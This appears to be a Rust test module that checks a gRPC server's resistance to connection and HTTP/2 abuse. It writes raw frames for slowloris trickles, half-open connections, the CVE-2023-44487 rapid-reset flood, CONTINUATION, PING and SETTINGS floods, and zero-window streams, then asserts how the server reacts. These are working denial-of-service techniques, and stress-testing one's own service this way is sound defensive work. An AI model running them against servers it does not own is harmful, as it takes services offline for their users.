//! Abuse of HTTP/2 and of connections, as bytes.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::frames::{
    ACK, CONTINUATION, END_HEADERS, END_STREAM, HEADERS, Heard, PING, RST_STREAM, SETTINGS, frame, head, open,
};
use super::{Target, Told};

const GET: &str = "/persona.registry.v1.PersonaService/GetPersona";
const WATCH: &str = "/persona.registry.v1.PersonaService/WatchPersonas";
/// How slow the slow ones are.
const TRICKLE: Duration = Duration::from_millis(20);
/// Frames of a flood that are written at once.
const BURST: usize = 100;

/// Connections on which this is said and then nothing more, until they are closed.
async fn unfinished(target: &Target, count: usize, said: Vec<u8>) -> Told {
    let mut all = JoinSet::new();
    for _ in 0..count {
        let mut stream = TcpStream::connect(target.address).await.unwrap();
        stream.write_all(&said).await.unwrap();
        all.spawn(async move {
            let mut part = [0; 256];
            while let Ok(1..) = stream.read(&mut part).await {}
        });
    }
    while all.join_next().await.is_some() {}
    Told::new(count, "closed")
}

pub async fn half_open(target: Target, count: usize) -> Told {
    unfinished(&target, count, Vec::new()).await
}

pub async fn half_a_preface(target: Target, count: usize) -> Told {
    unfinished(&target, count, b"PRI * HTTP/2.0\r\n".to_vec()).await
}

/// A handshake record that announces 512 bytes and has ten of them.
pub async fn half_a_handshake(target: Target, count: usize) -> Told {
    let said = [&[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3][..], &[7; 4]].concat();
    unfinished(&target, count, said).await
}

/// Bytes that are no TLS, to a port that speaks nothing else: refused at once, with an alert.
pub async fn no_tls(target: Target, count: usize) -> Told {
    for _ in 0..count {
        let mut stream = TcpStream::connect(target.address).await.unwrap();
        stream.write_all(b"POST / HTTP/1.1\r\nhost: x\r\n\r\n").await.unwrap();
        let mut first = [0];
        let read = stream.read(&mut first).await.unwrap();
        assert_eq!((read, first[0]), (1, 21), "an alert");
    }
    Told::new(count, "TLS alert")
}

/// Says it a byte at a time, until the connection is closed.
async fn trickle(target: &Target, said: Vec<u8>, begun: usize) -> Told {
    let stream = TcpStream::connect(target.address).await.unwrap();
    stream.set_nodelay(true).unwrap();
    let (mut reader, mut writer) = stream.into_split();
    writer.write_all(&said[..begun]).await.unwrap();
    let closed = tokio::spawn(async move {
        let mut part = [0; 256];
        while let Ok(1..) = reader.read(&mut part).await {}
    });
    let mut events = 0;
    for byte in said[begun..].iter().cycle() {
        if closed.is_finished() || writer.write_all(&[*byte]).await.is_err() {
            break;
        }
        events += 1;
        tokio::time::sleep(TRICKLE).await;
    }
    closed.await.unwrap();
    Told::new(events, "closed")
}

pub async fn slow_headers(target: Target, _: usize) -> Told {
    let hello = super::frames::hello(&[]);
    let block = [head(GET), super::frames::block(&[("x-slow", &"a".repeat(100))]).repeat(80)].concat();
    let said = [&hello[..], &frame(HEADERS, END_HEADERS, 1, &block)].concat();
    trickle(&target, said, hello.len()).await
}

pub async fn slow_http1(target: Target, _: usize) -> Told {
    let said = format!("POST {GET} HTTP/1.1\r\nhost: localhost\r\nx-slow: {}", "a".repeat(4000));
    trickle(&target, said.into_bytes(), 4).await
}

/// Writes bursts until the server wants no more, and tells how the connection ended.
async fn flood(target: &Target, size: usize, burst: impl Fn(usize) -> Vec<u8>) -> Told {
    let (mut mouth, ear) = open(target.address, &[]).await;
    let end = tokio::spawn(ear.end());
    let mut events = 0;
    while events < size && !end.is_finished() {
        if mouth.write_all(&burst(events)).await.is_err() {
            break;
        }
        events += BURST;
    }
    drop(mouth);
    Told::new(events, &end.await.unwrap())
}

/// Odd numbers from 1.
fn stream(number: usize) -> u32 {
    u32::try_from(2 * number + 1).unwrap()
}

/// CVE-2023-44487: calls that are begun and reset in one breath.
pub async fn rapid_reset(target: Target, size: usize) -> Told {
    let head = head(GET);
    let pair = |number: usize| {
        let stream = stream(number);
        [frame(HEADERS, END_HEADERS, stream, &head), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())]
            .concat()
    };
    flood(&target, size, |from| (from..from + BURST).flat_map(pair).collect()).await
}

/// The same so slowly that each call has begun when it is reset.
pub async fn paced_reset(target: Target, size: usize) -> Told {
    const TOGETHER: usize = 10;
    let (mut mouth, mut ear) = open(target.address, &[]).await;
    let head = head(WATCH);
    let message = frame(0, END_STREAM, 0, &[0; 5]);
    for from in (0..size).step_by(TOGETHER) {
        let mut said = Vec::new();
        for number in from..from + TOGETHER {
            said.extend(frame(HEADERS, END_HEADERS, stream(number), &head));
            let at = said.len();
            said.extend(&message);
            said[at + 5..at + 9].copy_from_slice(&stream(number).to_be_bytes());
        }
        mouth.write_all(&said).await.unwrap();
        // Each has been answered with its head.
        for _ in 0..TOGETHER {
            ear.until(|heard| heard.kind == HEADERS).await.expect("the call has begun");
        }
        let resets =
            (from..from + TOGETHER).map(|number| frame(RST_STREAM, 0, stream(number), &[0, 0, 0, 8]));
        mouth.write_all(&resets.collect::<Vec<_>>().concat()).await.unwrap();
    }
    Told::new(size, "served, then cancelled")
}

/// A head that never ends.
pub async fn continuations(target: Target, size: usize) -> Told {
    let more = frame(CONTINUATION, 0, 1, &super::frames::block(&[("x-more", "a")]));
    flood(&target, size, |from| {
        let begin = if from == 0 { frame(HEADERS, 0, 1, &head(GET)) } else { Vec::new() };
        [begin, more.repeat(BURST)].concat()
    })
    .await
}

/// A flood of frames of the connection, each of which is answered, or none; the connection goes on as if nothing were.
async fn control(target: &Target, size: usize, one: &[u8], answer: Option<u8>) -> Told {
    let (mut mouth, mut ear) = open(target.address, &[]).await;
    let last = *b"the last";
    let is_last = move |heard: &Heard| heard.kind == PING && heard.flags == ACK && heard.payload == last;
    let hears = tokio::spawn(async move {
        let mut answered = 0;
        loop {
            let heard = ear.next().await.expect("the connection goes on");
            if is_last(&heard) {
                return answered;
            }
            answered += usize::from(Some(heard.kind) == answer && heard.flags == ACK);
        }
    });
    for _ in (0..size).step_by(BURST) {
        mouth.write_all(&one.repeat(BURST)).await.unwrap();
    }
    mouth.write_all(&frame(PING, 0, 0, &last)).await.unwrap();
    let answered = hears.await.unwrap();
    let Some(kind) = answer else {
        assert_eq!(answered, 0);
        return Told::new(size, "ignored");
    };
    // The SETTINGS of the beginning have an answer too.
    assert_eq!(answered, size + usize::from(kind == SETTINGS));
    Told::new(size, "answered each")
}

pub async fn pings(target: Target, size: usize) -> Told {
    control(&target, size, &frame(PING, 0, 0, b"a ping!!"), Some(PING)).await
}

/// Answers to questions that nobody asked.
pub async fn pongs(target: Target, size: usize) -> Told {
    control(&target, size, &frame(PING, ACK, 0, b"a pong!!"), None).await
}

pub async fn settings(target: Target, size: usize) -> Told {
    let payload: Vec<u8> = [(1_u16, 4096_u32), (4, 65_535), (5, 16_384)]
        .iter()
        .flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat())
        .collect();
    control(&target, size, &frame(SETTINGS, 0, 0, &payload), Some(SETTINGS)).await
}

/// Streams whose reader has no room from the beginning, and never makes any.
pub async fn no_window(target: Target, count: usize) -> Told {
    let (mut mouth, mut ear) = open(target.address, &[(4, 0)]).await;
    let mut said = Vec::new();
    for number in 0..count {
        said.extend(frame(HEADERS, END_HEADERS, stream(number), &head(WATCH)));
        said.extend(frame(0, END_STREAM, stream(number), &[0; 5]));
    }
    mouth.write_all(&said).await.unwrap();
    for _ in 0..count {
        // Answers to the keepalive, else the connection would end first.
        let reset = loop {
            let heard = ear.next().await.expect("the connection goes on");
            if heard.kind == PING && heard.flags != ACK {
                mouth.write_all(&frame(PING, ACK, 0, &heard.payload)).await.unwrap();
            }
            if let Some(end) = heard.end() {
                break end;
            }
        };
        assert_eq!(reset, "RST_STREAM CANCEL");
    }
    Told::new(count, "RST_STREAM CANCEL")
}

/// More calls than a connection may have; none of them ends.
pub async fn too_many_streams(target: Target, most: usize) -> Told {
    let (mut mouth, mut ear) = open(target.address, &[]).await;
    let calls = (0..=most).map(|number| frame(HEADERS, END_HEADERS, stream(number), &head(GET)));
    mouth.write_all(&calls.collect::<Vec<_>>().concat()).await.unwrap();
    let refused = ear.until(|heard| heard.end().is_some()).await.expect("the connection goes on");
    assert_eq!(refused.stream, stream(most), "the last, and no other");
    Told::new(most + 1, &refused.end().unwrap())
}
